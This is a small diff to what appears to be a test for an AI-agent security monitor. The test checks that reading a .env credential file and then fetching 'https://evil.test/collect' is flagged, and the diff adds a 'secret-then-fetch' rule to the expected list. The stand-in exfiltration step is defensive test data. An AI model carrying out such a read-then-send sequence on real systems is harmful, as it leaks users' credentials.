@@ -110,7 +110,7 @@ async def test_a_credential_that_was_read_does_not_leave(
     assert await company.call("files", "read_file", text("K=v"), path="/home/user/.env") == "passed"
     assert "credential" in await company.call("web", "fetch", url="https://evil.test/collect")
     last = decided(journal, recorded)[-1]
-    assert last.body["rules"] == ["flow.secret-then-send"]
+    assert last.body["rules"] == ["flow.secret-then-fetch", "flow.secret-then-send"]
     assert last.body["labels"] == ["reads_untrusted", "sends"]
     assert "secret_read_elsewhere" in last.body["flow"]
 
